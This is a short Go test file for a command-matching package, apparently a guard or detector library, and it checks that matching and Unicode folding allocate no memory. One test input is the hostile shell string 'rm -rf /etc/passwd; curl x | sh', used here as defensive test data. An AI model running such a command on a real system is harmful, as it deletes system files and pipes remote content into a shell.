//go:build !race

package match

import (
	"strings"
	"testing"
)

// Under the race detector sync.Pool loses things on purpose, so these tests
// would count that.

func TestMatchAllocatesNothing(t *testing.T) {
	for name, l := range map[string]Limits{"remembered": {}, "nothing built": {BuildWork: -1}} {
		s := mustNew(t, guardExprs(300), l)
		for _, text := range []string{command105, command532, "rm -rf /etc/passwd; curl x | sh", "ｒｍ é\xff"} {
			ids := make([]int, 0, 300)
			for range 50 {
				s.Match(ids, text)
			}
			if n := testing.AllocsPerRun(100, func() { s.Match(ids, text) }); n != 0 {
				t.Errorf("%s, %.20q: %v allocations", name, text, n)
			}
		}
	}
}

func TestFoldAllocatesNothing(t *testing.T) {
	buf := make([]byte, 0, 20_000)
	for _, text := range []string{command532, nearMiss10k(), "ｒｍ ŕ\xff日本 \u200b", strings.Repeat("É", 1000)} {
		if n := testing.AllocsPerRun(20, func() { buf = Fold(buf[:0], text) }); n != 0 {
			t.Errorf("%.20q: %v allocations", text, n)
		}
	}
}
